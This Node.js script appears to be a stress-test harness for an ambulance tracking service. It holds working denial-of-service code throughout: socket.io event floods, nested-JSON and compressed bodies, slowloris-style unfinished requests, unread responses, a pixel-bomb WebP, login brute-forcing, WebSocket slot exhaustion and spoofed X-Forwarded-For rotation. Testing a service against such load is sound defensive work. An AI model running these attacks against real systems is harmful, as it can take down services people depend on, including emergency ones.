/**
 * Hostile clients, in a process of their own: `node attacks.mjs <JSON>` with
 * `{targets: [{http, socket, host?}], boxCode, picturePath, seconds}`. `http` and `socket` are URLs; with `host` the
 * connection uses TLS for this name without checking the certificate. Ends by itself after `seconds`, or at SIGTERM, and
 * prints as JSON how often each attack ran, and how many requests of each URL were answered.
 */
import { Buffer } from 'node:buffer';
import { connect as connectTcp } from 'node:net';
import { clearInterval, setInterval, setTimeout } from 'node:timers';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { URL } from 'node:url';
import { deflateSync, gzipSync } from 'node:zlib';

const { targets, boxCode, picturePath, seconds } = JSON.parse(process.argv[2] ?? '{}');
const endMs = Date.now() + seconds * 1_000;
const isOver = () => Date.now() > endMs;
const counts = {};
/** Connections that got an answer, by URL: attacks that reach nothing prove nothing. */
const answered = {};
/** Open connections; all are destroyed at the end. */
const open = new Set();

/** One connection. Its errors are expected. */
function dial(url, host) {
  const { hostname, port } = new URL(url);
  const connection = host
    ? connectTls({ host: hostname, port: Number(port || 443), servername: host, rejectUnauthorized: false })
    : connectTcp({ host: hostname, port: Number(port) });
  open.add(connection);
  connection.on('error', () => undefined).on('close', () => open.delete(connection));
  return connection;
}

const hostOf = (url, host) => host ?? new URL(url).host;
let lastAddress = 0;
/** A new address each time, for the proxy that the service trusts: the gateway of the container network. */
const newAddress = () => `198.18.${(lastAddress >> 8) & 255}.${(lastAddress += 1) & 255}`;

function head(method, path, url, host, fields = {}) {
  const lines = Object.entries({ Host: hostOf(url, host), 'X-Forwarded-For': newAddress(), ...fields });
  return `${method} ${path} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`;
}

/** Sends one request on its own connection, and gives the first bytes of the answer; empty when there is none. */
async function send(url, host, method, path, body = '', fields = {}, waitMs = 10_000) {
  const connection = dial(url, host);
  const length = Buffer.byteLength(body);
  connection.write(
    head(method, path, url, host, { ...fields, 'Content-Length': length, Connection: 'close' }),
  );
  connection.write(body);
  let text = '';
  connection.once('data', () => (answered[url] = (answered[url] ?? 0) + 1));
  connection.on('data', (chunk) => (text.length < 65_536 ? (text += chunk.toString('latin1')) : undefined));
  await Promise.race([
    new Promise((resolve) => connection.once('close', resolve)),
    sleep(waitMs, undefined, { ref: false }),
  ]);
  connection.destroy();
  return text;
}

const json = { 'Content-Type': 'application/json' };

const ATTACKS = {
  /** A polling session that sends 200,000 events at once and never takes an answer. */
  async packets({ socket, host }) {
    const path = '/socket.io/?EIO=4&transport=polling';
    const opened = await send(socket, host, 'GET', path);
    const sid = /"sid":"([^"]+)"/.exec(opened)?.[1];
    if (!sid) return;
    const post = (body) =>
      send(socket, host, 'POST', `${path}&sid=${sid}`, body, { 'Content-Type': 'text/plain' });
    await post('40');
    const events = Array.from({ length: 180_000 }, () => '421["x"]').join('\u001e');
    await Promise.all([post(events), post(events)]);
  },
  async nestedJson({ http, host }) {
    const nested = '['.repeat(1_900_000);
    const flat = `{${Array.from({ length: 150_000 }, (_, n) => `"f${n}":1`).join(',')}}`;
    const login = (body, fields) =>
      send(http, host, 'POST', '/api/v1/auth/login', body, { ...json, ...fields });
    await Promise.all([
      ...Array.from({ length: 8 }, () => login(gzipSync(nested), { 'Content-Encoding': 'gzip' })),
      ...[nested, flat, flat].map((body) => login(body, {})),
    ]);
  },
  /** Bodies, polling bodies and frames that never end. */
  async unfinished({ http, socket, host }) {
    const half = Buffer.alloc(1_900_000, 'x');
    for (let n = 0; n < 40; n += 1) {
      const body = dial(http, host);
      const fields = { ...json, 'Content-Length': 2_000_000 };
      body.write(
        head('POST', n % 2 ? '/api/v1/positions' : '/api/crash/postAmbulanceCrashNotify', http, host, fields),
      );
      body.write(half);
    }
    for (let n = 0; n < 60; n += 1) {
      const frame = dial(socket, host);
      const fields = {
        ...{ Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Version': '13' },
        'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
      };
      frame.write(head('GET', '/socket.io/?EIO=4&transport=websocket', socket, host, fields));
      frame.once('data', () => {
        // A masked text frame that announces 1,900,000 bytes.
        const start = Buffer.alloc(14);
        start[0] = 0x81;
        start[1] = 0x80 | 127;
        start.writeBigUInt64BE(1_900_000n, 2);
        frame.write(start);
        frame.write(half.subarray(1_000));
      });
    }
    await sleep(5_000);
  },
  /** Answers that the client never reads: pipelined requests for the API document, and a picture. */
  async unread({ http, host }) {
    for (let n = 0; n < 16; n += 1) {
      const reader = dial(http, host);
      reader.pause();
      reader.write(head('GET', '/docs-json', http, host).repeat(200));
    }
    for (let n = 0; n < 200; n += 1) {
      const reader = dial(http, host);
      reader.pause();
      reader.write(head('GET', picturePath, http, host));
    }
    await sleep(5_000);
  },
  /** A flood on the old routes with the code of a real box. */
  async oldRoutes({ http, host }) {
    const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
    const body = `ambulance_id=${boxCode}&tracking_latitude=13.7&tracking_longitude=100.5&tracking_speed=1&tracking_heading=1`;
    for (let round = 0; round < 5; round += 1) {
      await Promise.all(
        Array.from({ length: 60 }, (_, n) =>
          send(
            ...[http, host, 'POST'],
            n % 2 ? '/api/tracking/postAmbulanceTracking' : '/api/crash/postAmbulanceCrashNotify',
            ...[body, form],
          ),
        ),
      );
    }
  },
  async wrongLogins({ http, host }) {
    const body = JSON.stringify({ email: 'admin@samserver.local', password: 'a wrong guess' });
    await Promise.all(
      Array.from({ length: 50 }, () => send(http, host, 'POST', '/api/v1/auth/login', body, json)),
    );
  },
  /** Forms that arrive slowly, and pictures of 40 bytes that claim 98 megapixels. */
  async pictures({ http, host }) {
    const boundary = 'attack';
    const type = { 'Content-Type': `multipart/form-data; boundary=${boundary}` };
    const part = `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="a.webp"\r\nContent-Type: image/webp\r\n\r\n`;
    const slow = Array.from({ length: 64 }, () => {
      const form = dial(http, host);
      const fields = { ...type, 'Content-Length': 1_000_000 };
      form.write(head('POST', '/api/snapshot/postAmbulanceImageUpload', http, host, fields));
      form.write(part);
      return setInterval(() => form.writable && form.write('x'), 500);
    });
    const webp = hugeWebp();
    const field = `--${boundary}\r\nContent-Disposition: form-data; name="ambulance_id"\r\n\r\n${boxCode}\r\n`;
    const body = Buffer.concat([Buffer.from(field + part), webp, Buffer.from(`\r\n--${boundary}--\r\n`)]);
    await Promise.all(
      Array.from({ length: 16 }, () =>
        send(http, host, 'POST', '/api/snapshot/postAmbulanceImageUpload', body, type, 20_000),
      ),
    );
    for (const each of slow) clearInterval(each);
  },
  /** Panels that take every slot and never join a room. */
  async panels({ socket, host }) {
    const fields = {
      ...{ Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Version': '13' },
      'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
      'X-Forwarded-For': '198.51.100.66',
    };
    for (let n = 0; n < 250; n += 1) {
      const panel = dial(socket, host);
      panel.write(head('GET', '/socket.io/?EIO=4&transport=websocket', socket, host, fields));
      panel.once('data', () => panel.write(Buffer.from([0x81, 0x82, 0, 0, 0, 0, 0x34, 0x30])));
    }
    await sleep(5_000);
  },
};

/** The header of a lossless WebP of 16383 x 6000 pixels with almost no data. */
function hugeWebp() {
  const data = deflateSync(Buffer.alloc(8)).subarray(0, 15);
  const webp = Buffer.alloc(20 + 5 + data.length + 1);
  webp.write('RIFF', 0, 'latin1');
  webp.writeUInt32LE(webp.length - 8, 4);
  webp.write('WEBPVP8L', 8, 'latin1');
  webp.writeUInt32LE(5 + data.length, 16);
  webp[20] = 0x2f;
  webp.writeUInt32LE((16_383 - 1) | ((6_000 - 1) << 14), 21);
  data.copy(webp, 25);
  return webp;
}

async function repeat(name, target) {
  while (!isOver()) {
    await ATTACKS[name](target);
    counts[name] = (counts[name] ?? 0) + 1;
    // Attacks overlap in changing pairs; the two cores of a test machine also carry the service and its real clients.
    await sleep(4_000 + Math.random() * 6_000);
  }
}

process.once('SIGTERM', () => finish());
function finish() {
  process.stdout.write(`${JSON.stringify({ counts, answered })}\n`, () => process.exit(0));
  for (const connection of open) connection.destroy();
}
setTimeout(finish, seconds * 1_000).unref();
// Connections that are no longer needed by an attack would otherwise grow without a bound.
setInterval(() => {
  for (const connection of [...open].slice(0, Math.max(0, open.size - 1_000))) connection.destroy();
}, 1_000).unref();

await Promise.all(targets.flatMap((target) => Object.keys(ATTACKS).map((name) => repeat(name, target))));
finish();
